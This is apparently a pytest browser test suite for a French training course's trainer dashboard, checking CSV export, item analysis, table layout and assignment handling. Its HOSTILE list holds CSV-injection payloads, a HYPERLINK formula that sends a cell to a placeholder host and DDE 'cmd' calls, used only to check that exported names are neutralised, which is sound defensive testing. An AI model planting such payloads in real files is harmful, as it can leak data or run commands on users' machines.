"""The trainers' tools against hostile, old or mistaken input, and their tables on screen.

« Suivi du groupe »: a CSV no spreadsheet runs as formulas, with numbers; incomplete multiple answers and fill-in
blanks in the item analysis; tables that keep words whole. « Assigner le module »: the site's own address prefilled
online, impossible due days refused. The learner's list: an assignment naming a lesson this version lacks, or an
unreadable one, is shown as such and can be removed. Expected values are computed here from the question bank.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from scripts.model import course, quizbank
from tests.test_a11y import run_axe
from tests.test_trainer_tools import ASSIGNED, _assignment, _b64, _index, _learner_files, _plain, utc_page

__all__ = ["utc_page"]  # the fixture, imported for the tests below

pytestmark = pytest.mark.browser

STORE_KEY = "partenariat:progress:v1"
# OWASP « CSV injection »: what a spreadsheet may run when a cell starts with it.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez ici")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r-1+cmd|' /C calc'!A0",
]


def _bank() -> dict[str, quizbank.Question]:
    bank = quizbank.load_bank(course.ROOT / "quizzes")
    return {q.id: q for quiz in bank.values() for q in quiz.questions}


def _open_reports(page: Any, files: list[Path]) -> None:
    page.set_input_files("#groupe-files", [str(f) for f in files])
    page.wait_for_selector("#groupe-items")


def _rename(path: Path, name: str) -> None:
    doc = json.loads(path.read_text(encoding="utf-8"))
    doc["buckets"]["profile"]["name"]["value"] = name
    path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")


def test_csv_keeps_hostile_names_as_text_and_scores_as_numbers(utc_page: Any, server: str, site: Path, tmp_path: Path) -> None:
    """Learners named like formulas (=, +, -, @, tab, carriage return) reach the CSV as text; scores are numbers.

    Parsed back with Python's csv module: every hostile name is there with a leading quote, no cell starts with a
    formula character, and the scores, counts and final marks are integers equal to those computed here, with the
    unit in the header. The cell function itself quotes cells starting with a tab or a carriage return.
    """
    page = utc_page
    files, _, _, numbers = _learner_files(site, tmp_path, datetime.now(UTC).date() + timedelta(days=7))
    chosen = files[: len(HOSTILE) + 2]
    expected: dict[str, list[str]] = {}
    for path, hostile in zip(chosen, HOSTILE + [None, None], strict=True):
        original = json.loads(path.read_text(encoding="utf-8"))["buckets"]["profile"]["name"]["value"]
        if hostile is None:
            expected[original] = numbers[original]
            continue
        _rename(path, hostile)
        shown = " ".join(hostile.split())  # the dashboard trims and joins a name's spaces
        expected["'" + shown] = numbers[original]
    page.goto(server + "formateurs/groupe.html")
    _open_reports(page, chosen)
    with page.expect_download() as info:
        page.click("#groupe-csv")
    text = Path(info.value.path()).read_bytes().decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    for row in table:
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"formula cell reaches the spreadsheet: {cell!r}"
    assert table[0][3] == "Score des leçons (%)" and table[0][5] == "Évaluation finale (%)", table[0]
    assert {r[0]: r[1:] for r in table[1:]} == expected
    for row in table[1:]:
        assert all(re.fullmatch(r"\d+", row[i]) for i in (1, 2, 3)), row  # numbers, not « 91 % »
        assert row[5] == "" or 0 <= int(row[5]) <= 100, row
    # The cell itself, for what a name cannot carry first (the dashboard trims names): tab and carriage return.
    for value in ("\t=1+1", "\r+1", "=1+1", "-3", "@A1", "plain; \"quoted\""):
        cell = page.evaluate("(v) => window.Partenariat.groupe.csvText(v)", value)
        parsed = next(csv.reader(io.StringIO(cell, newline=""), delimiter=";"))
        assert len(parsed) == 1 and not parsed[0].startswith(FORMULA_START), (value, cell)
        assert parsed[0] in (value, "'" + value), (value, parsed)


def test_items_show_incomplete_multiple_answers(utc_page: Any, server: str, site: Path, tmp_path: Path) -> None:
    """Too few boxes ticked shows as incomplete, never as a right option alone.

    Learners who ticked only right boxes of a multiple-answer question, too few of them: the most given wrong answer
    says it is incomplete and names what is missing.
    """
    page = utc_page
    bank = _bank()
    index = _index(site)
    lessons = {x["slug"]: x["questions"] for x in index["lessons"]}
    multiple = [qid for slug in ASSIGNED for qid in lessons[slug] if bank[qid].type == "multiple"]
    assert multiple, "the assigned lessons should have a multiple-answer question"
    files, _, _, _ = _learner_files(site, tmp_path, datetime.now(UTC).date() + timedelta(days=7))
    chosen = files[:6]
    for path in chosen:
        doc = json.loads(path.read_text(encoding="utf-8"))
        for qid in multiple:
            right = [i for i, c in enumerate(bank[qid].choices) if c.correct]
            # Every learner ticks only the first right option: a wrong answer made of a right option.
            doc["buckets"]["answers"][qid] = {"v": [str(right[0])], "ok": False, "score": 0.5, "first": False, "t": 1}
        path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    page.goto(server + "formateurs/groupe.html")
    _open_reports(page, chosen)
    for qid in multiple:
        choices = [_plain(c.text) for c in bank[qid].choices]
        right = [i for i, c in enumerate(bank[qid].choices) if c.correct]
        cell = page.locator(f"#groupe-items tr[data-qid='{qid}'] [data-col='wrong']").text_content() or ""
        assert cell.endswith(f" ({len(chosen)})"), cell
        shown = cell[: -len(f" ({len(chosen)})")]
        assert shown not in [choices[i] for i in right], f"a right option alone shown as the wrong answer: {cell}"
        assert shown.startswith("incomplète\u00a0: " + choices[right[0]][:60]), cell
        for i in right[1:]:
            assert choices[i][:60] in shown.split("il manque\u00a0: ", 1)[1], (cell, choices[i])


def test_items_keep_fill_in_blanks_and_no_break_spaces(utc_page: Any, server: str, site: Path, tmp_path: Path) -> None:
    """Question stems in the item analysis keep a fill-in's blank and their no-break spaces.

    Every fill-in question of the assignment shows « […] » where its blank is, even in a stem shortened for the
    table; a stem with a no-break space before « ? » or « : » keeps it (the sign never wraps alone).
    """
    page = utc_page
    bank = _bank()
    index = _index(site)
    lessons = {x["slug"]: x["questions"] for x in index["lessons"]}
    files, _, _, _ = _learner_files(site, tmp_path, datetime.now(UTC).date() + timedelta(days=7))
    page.goto(server + "formateurs/groupe.html")
    _open_reports(page, files[:3])
    fills = [qid for qid in [q for slug in ASSIGNED for q in lessons[slug]] + index["final"]["questions"]
             if bank[qid].type == "fill"]
    assert fills
    for qid in fills:
        full = _plain(bank[qid].question.replace(quizbank.BLANK, "[…]"))
        at = full.index("[…]")
        text = page.locator(f"#groupe-items tr[data-qid='{qid}'] th a").text_content() or ""
        assert full[max(0, at - 20): at + 20] in text, (qid, text)
    ids = [q for slug in ASSIGNED for q in lessons[slug]] + index["final"]["questions"]
    spaced = [qid for qid in ids if re.search("\u00a0[?:]", _plain(bank[qid].question)[:140])]
    assert spaced, "some stems should have a no-break space before ? or :"
    for qid in spaced:
        text = page.locator(f"#groupe-items tr[data-qid='{qid}'] th a").text_content() or ""
        assert not re.search(" [?:]", text) and re.search("\u00a0[?:]", text), (qid, text)


_WRAPPED_WORDS = """(selector) => {
    // Every word (text between breakable spaces, hyphens, dashes or slashes; a no-break space joins) whose letters
    // lie on more than one line: cut inside, or a « ? » or « % » thrown alone onto the next line.
    const cut = [];
    document.querySelectorAll(selector + ' th, ' + selector + ' td, ' + selector + ' caption').forEach((cell) => {
        const walker = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT);
        let node;
        while ((node = walker.nextNode())) {
            const words = /[^ \\t\\n\\r\\-\\u2010\\u2013\\u2014\\/]+/g;
            let m;
            while ((m = words.exec(node.data))) {
                const range = document.createRange();
                range.setStart(node, m.index);
                range.setEnd(node, m.index + m[0].length);
                const lines = new Set(Array.from(range.getClientRects()).filter((r) => r.width > 0)
                    .map((r) => Math.round(r.bottom)));
                if (lines.size > 1) cut.push(m[0]);
            }
        }
    });
    return cut;
}"""


@pytest.mark.parametrize("width", [1280, 360])
def test_group_tables_are_styled_and_keep_words_whole(browser: Any, server: str, site: Path, tmp_path: Path, width: int) -> None:
    """The dashboard's two tables at 1,280 and 360 px: drawn like the theme's tables, and no word cut mid-word.

    At 1,280 px the item table fits the column; at 360 px a table wider than the screen scrolls in its own box,
    which is then a named region the keyboard reaches, and the page itself does not scroll sideways; axe finds
    nothing there.
    """
    ctx = browser.new_context(timezone_id="UTC", viewport={"width": width, "height": 900})
    page = ctx.new_page()
    files, _, _, _ = _learner_files(site, tmp_path, datetime.now(UTC).date())
    page.goto(server + "formateurs/groupe.html")
    _open_reports(page, files[:30])
    for table in ("#groupe-items", "#groupe-table"):
        assert page.evaluate(_WRAPPED_WORDS, table) == [], f"words cut inside in {table} at {width} px"
        style = page.evaluate("""(sel) => {
            const cell = getComputedStyle(document.querySelector(sel + ' tbody td'));
            const article = getComputedStyle(document.querySelector('.md-typeset'));
            return [parseFloat(cell.paddingLeft), parseFloat(cell.borderTopWidth), parseFloat(cell.fontSize),
                    parseFloat(article.fontSize)];
        }""", table)
        assert style[0] > 0 and style[1] > 0, f"{table} is not styled as a table: {style}"
        assert style[2] < style[3], f"{table} should use the theme's smaller table text: {style}"
    boxes = page.evaluate("""() => Array.from(document.querySelectorAll('#groupe .pt-table-scroll')).map((b) =>
        [b.querySelector('table').id, b.scrollWidth > b.clientWidth + 1, b.tabIndex, b.getAttribute('role'),
         b.getAttribute('aria-label')])""")
    assert sorted(b[0] for b in boxes) == ["groupe-items", "groupe-table"]
    if width == 1280:
        assert not next(b for b in boxes if b[0] == "groupe-items")[1], "the item table should fit at 1,280 px"
    for _, scrolls, tab, role, label in boxes:
        if scrolls:
            assert tab == 0 and role == "region" and label and "défilement horizontal" in label, boxes
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), "the page scrolls sideways"
    violations = run_axe(page, f"formateurs/groupe.html, 30 files at {width} px [light]")
    assert not violations, "\n".join(violations)
    ctx.close()


@pytest.mark.parametrize("mode", ["http", "file"])
def test_online_address_is_prefilled_when_served(utc_page: Any, server: str, site: Path, mode: str) -> None:
    """Served over http, « Adresse en ligne du module » is prefilled with the site's own root address.

    The link made then uses it; opened from disk, the field stays empty (the offline edition's relative link).
    """
    page = utc_page
    base = server if mode == "http" else site.resolve().as_uri() + "/"
    page.goto(base + "formateurs/assigner.html")
    value = page.input_value("#pt-assign-url")
    assert value == (server if mode == "http" else ""), value
    page.check("input[value='definitions']")
    page.fill("#pt-assign-group", "Groupe en ligne")
    page.click("#pt-assign-form button[type='submit']")
    link = page.text_content("#pt-assign-link") or ""
    assert link.startswith((server if mode == "http" else "") + "index.html#assigner="), link
    if mode == "http":
        page.goto(link)
        assert "Groupe en ligne" in (page.text_content("#pt-assign-notice") or "")


def test_impossible_due_days_are_refused(utc_page: Any, server: str) -> None:
    """Impossible due days are refused at the form and in a link, with a French message.

    0000-01-01, 1900-01-01, 2100-01-01 and yesterday: no link made at the form; a link due 0000-01-01 is refused
    when read and nothing is stored; one stored earlier says its day is impossible.
    """
    page = utc_page
    page.goto(server + "formateurs/assigner.html")
    page.check("input[value='definitions']")
    page.fill("#pt-assign-group", "Groupe daté")
    yesterday = (datetime.now(UTC).date() - timedelta(days=1)).isoformat()
    for day, message in (("0000-01-01", "Indiquez une date limite valide"), ("1900-01-01", "Date limite impossible"),
                         ("2100-01-01", "Date limite impossible"), (yesterday, "déjà passée")):
        page.evaluate("(d) => { document.getElementById('pt-assign-due').value = d; }", day)
        page.click("#pt-assign-form button[type='submit']")
        msg = page.locator("#pt-assign-form .pt-form-message")
        assert message in (msg.text_content() or ""), (day, msg.text_content())
        assert "is-error" in (msg.get_attribute("class") or "")
        assert page.locator("#pt-assign-sheet").is_hidden(), day
        assert page.evaluate("document.activeElement.id") == "pt-assign-due"
    assert page.get_attribute("#pt-assign-due", "max") == "2099-12-31"
    page.goto(server + "index.html#assigner=" + _b64(_assignment("0000-01-01", "ancien0001")))
    notice = page.text_content("#pt-assign-notice") or ""
    assert "n’a pas été enregistré" in notice and "date limite impossible (0000-01-01)" in notice, notice
    assert page.evaluate("window.Partenariat.store.all('assignments').length") == 0
    # Stored earlier (before the range existed): listed, its day named impossible, not « 1 janvier 1900 ».
    _store_raw(page, server, {"ancien0002": {**_assignment("0000-01-01", "ancien0002"), "t": 1000}})
    card = page.locator("[data-assignment='ancien0002']")
    text = card.text_content() or ""
    assert "date limite impossible" in text and "1900" not in text and "en retard" not in text, text


def _store_raw(page: Any, server: str, assignments: dict[str, Any]) -> None:
    """Write the assignments bucket straight into storage, as an older version of the course left it; open « Mon parcours »."""
    doc = {"schema": "partenariat-progress", "version": 2, "course": "partenariat", "reset": 0,
           "buckets": {"assignments": assignments}}
    page.goto(server + "parcours.html")
    page.evaluate("([k, v]) => localStorage.setItem(k, v)", [STORE_KEY, json.dumps(doc, ensure_ascii=False)])
    page.goto(server + "parcours.html")
    page.wait_for_selector("#pt-assignments:not([hidden])")


def test_assignment_naming_an_unknown_lesson_is_listed_and_removable(utc_page: Any, server: str, site: Path, tmp_path: Path) -> None:
    """A stored assignment naming a lesson this version lacks is listed, followed on the rest, and removable.

    The lesson was renamed in a newer bundle; beside it, a sound assignment and an unreadable one, on « Mon parcours »
    and the home page. Each is checked on its own: the unknown lesson is named in French and left out of the count, the rest of that
    assignment is followed, the sound one is intact, the unreadable one says so; each can be removed. Such an
    export is still importable elsewhere, and the group dashboard follows it on the lessons the course has.
    """
    page = utc_page
    old = {**_assignment("2099-06-30", "ancienne01", ["definitions", "ancienne-lecon"]), "t": 1000}
    sound = {**_assignment("2099-07-31", "correct001", ["acteurs"]), "t": 1000}
    broken = {**_assignment("2099-08-31", "illisible1"), "lessons": "definitions", "t": 1000}
    _store_raw(page, server, {"ancienne01": old, "correct001": sound, "illisible1": broken})
    for name in ("parcours.html", "index.html"):
        page.goto(server + name)
        assert page.locator("#pt-assignments .pt-assignment").count() == 3, name
        card = page.locator("[data-assignment='ancienne01']")
        unknown = card.locator("li[data-unit='ancienne-lecon']")
        assert unknown.get_attribute("data-unknown") == "true"
        assert "«\u00a0ancienne-lecon\u00a0»\u00a0: absente de cette version du module" in (unknown.text_content() or "")
        assert card.locator("li[data-unit='definitions'] a").count() == 1
        assert "0 sur 2 terminé" in " ".join((card.text_content() or "").split())  # definitions and the final
        assert "il reste" in (card.locator(".pt-assignment-when").text_content() or "")
        assert "0 sur 2 terminé" in " ".join((page.locator("[data-assignment='correct001']").text_content() or "").split())
        assert "ne peut pas être lu" in (page.locator("[data-assignment='illisible1']").text_content() or "")
    # The learner's export, with the old assignment, imports into a fresh profile: checked item by item.
    exported = page.evaluate("window.Partenariat.store.exportJSON()")
    ctx = page.context.browser.new_context()
    other = ctx.new_page()
    other.goto(server + "parcours.html")
    sound_only = json.loads(exported)
    del sound_only["buckets"]["assignments"]["illisible1"]
    result = other.evaluate("(t) => window.Partenariat.store.importJSON(t)", json.dumps(sound_only))
    assert result["ok"], result
    assert other.evaluate("window.Partenariat.store.get('assignments', 'ancienne01').lessons") == ["definitions", "ancienne-lecon"]
    ctx.close()
    # The group dashboard follows it on what the course has: « definitions » and the final, not a lesson never done.
    files, _, _, _ = _learner_files(site, tmp_path, datetime.now(UTC).date())
    doc = json.loads(files[0].read_text(encoding="utf-8"))
    doc["buckets"]["assignments"] = {"ancienne01": old}
    files[0].write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    page.goto(server + "formateurs/groupe.html")
    _open_reports(page, [files[0]])
    assert re.fullmatch(r"\d / 2", page.locator("#groupe-table tbody [data-col='done']").text_content() or "")
    # Removing each one, the unknown-lesson one first; the sound one stays until removed. The store's first write
    # sets the unreadable one aside (copied under its own key and named in the banner): listed or set aside, never lost.
    page.goto(server + "parcours.html")
    listed = "() => [...document.querySelectorAll('#pt-assignments .pt-assignment')].map(e => e.dataset.assignment)"
    for ident in ("ancienne01", "illisible1", "correct001"):
        if ident not in page.evaluate(listed):
            assert ident == "illisible1" and "le devoir «\u00a0illisible1\u00a0»" in page.locator(".pt-store-banner").inner_text()
            continue
        page.once("dialog", lambda d: d.accept())
        page.locator(f"[data-assignment='{ident}'] button", has_text="Retirer ce devoir").click()
        page.wait_for_function("(id) => !document.querySelector(`#pt-assignments [data-assignment='${id}']`)", arg=ident)
        assert page.evaluate("(id) => window.Partenariat.store.get('assignments', id)", ident) is None
        page.evaluate("window.Partenariat.store.settled()")  # the write has landed: the list is final for this step
        if ident == "ancienne01":
            assert "correct001" in page.evaluate(listed)
    page.reload()
    assert page.locator("#pt-assignments").is_hidden()
